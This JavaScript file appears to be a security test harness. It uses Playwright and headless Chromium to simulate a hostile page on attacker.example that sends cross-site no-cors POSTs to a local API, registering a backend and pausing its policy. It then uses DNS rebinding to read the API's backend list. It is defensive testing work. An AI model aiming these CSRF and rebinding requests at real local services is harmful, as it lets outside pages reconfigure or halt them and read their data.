// A web page's attacks on a host without a token, in Chromium itself: the
// page at http://attacker.example:PORT (resolved to this machine by a
// resolver rule, as DNS would) sends the requests a page can send without
// CORS to the API on loopback (CSRF), then the browser loads the API under
// the attacker's name (DNS rebinding) to read it. Reads {base, attacker,
// apiPort} from argv[2]; prints {sent, rebindStatus, rebindBody} or {error}.
import { chromium } from "playwright-core";

const cfg = JSON.parse(process.argv[2]);
const browser = await chromium.launch({
  executablePath: cfg.chromium || "/usr/bin/chromium", headless: true,
  args: ["--no-sandbox", "--host-resolver-rules=MAP attacker.example 127.0.0.1"],
});
try {
  const page = await browser.newPage();
  await page.goto(cfg.attacker);
  const sent = await page.evaluate(async (base) => {
    const out = [];
    const post = async (path, body, type) => {
      try {
        // no-cors: a "simple" request the browser sends without asking
        await fetch(base + path, { method: "POST", mode: "no-cors", headers: { "Content-Type": type }, body });
        out.push(path + " " + type + ": sent");
      } catch (e) { out.push(path + " " + type + ": " + e); }
    };
    await post("/v1/backends", JSON.stringify({ url: "http://127.0.0.1:9/", protocol: "vllm" }), "text/plain");
    await post("/v1/policy:pause", JSON.stringify({ mode: "abort" }), "text/plain");
    // With JSON's type the browser must ask first (a preflight): never granted.
    try {
      await fetch(base + "/v1/policy:pause", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"mode":"abort"}' });
      out.push("cors json: answered");
    } catch (e) { out.push("cors json: " + e); }
    return out;
  }, cfg.base);
  // Rebinding: the attacker's name now points at the API's address.
  const res = await page.goto("http://attacker.example:" + cfg.apiPort + "/v1/backends");
  console.log(JSON.stringify({ sent, rebindStatus: res.status(), rebindBody: await res.text() }));
} catch (e) {
  console.log(JSON.stringify({ error: String(e) }));
} finally {
  await browser.close();
}
